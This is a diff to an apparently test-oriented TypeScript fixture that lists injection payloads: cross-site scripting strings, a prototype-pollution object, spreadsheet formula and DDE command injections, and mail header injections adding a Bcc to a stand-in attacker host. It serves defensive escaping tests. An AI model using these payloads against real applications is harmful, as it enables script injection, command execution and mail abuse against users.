@@ -1,10 +1,10 @@
-/** Where a payload that took effect would call home. */
-export const elsewhere = 'boese.example'
+/** The host that a payload would contact if it took effect. */
+export const attackerHost = 'boese.example'
 
 const alert = 'alert(1)'
-const remote = `//${elsewhere}/x`
+const remote = `//${attackerHost}/x`
 
-/** Texts that become script, markup, a formula or a header line wherever somebody forgets what a text is. */
+/** Texts that would become script, markup, a formula or a header line if they were not escaped. */
 export const scriptPayloads: readonly string[] = [
   // Elements
   `<script>${alert}</script>`,
@@ -59,14 +59,14 @@ export const scriptPayloads: readonly string[] = [
   `*/${alert}/*`,
   `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"x"}}}`,
   // Formulas of tables
-  `=HYPERLINK("http://${elsewhere}";"hier")`,
+  `=HYPERLINK("http://${attackerHost}";"hier")`,
   `+cmd|' /C calc'!A1`,
   `@SUM(1+1)*cmd|'/C calc'!A0`,
   // Lines of a mail
-  `Clara\r\nBcc: opfer@${elsewhere}`,
+  `Clara\r\nBcc: opfer@${attackerHost}`,
   `Clara\nSubject: Gewonnen\n\n<h1>Gewonnen</h1>`,
-  `Clara\u2028Bcc: opfer@${elsewhere}`,
-  `=?utf-8?q?=0D=0ABcc:_opfer=40${elsewhere}?=`,
+  `Clara\u2028Bcc: opfer@${attackerHost}`,
+  `=?utf-8?q?=0D=0ABcc:_opfer=40${attackerHost}?=`,
   // Unicode
   `\u202Egpj.exe<img src=x onerror=${alert}>`,
   `＜script＞${alert}＜/script＞`,
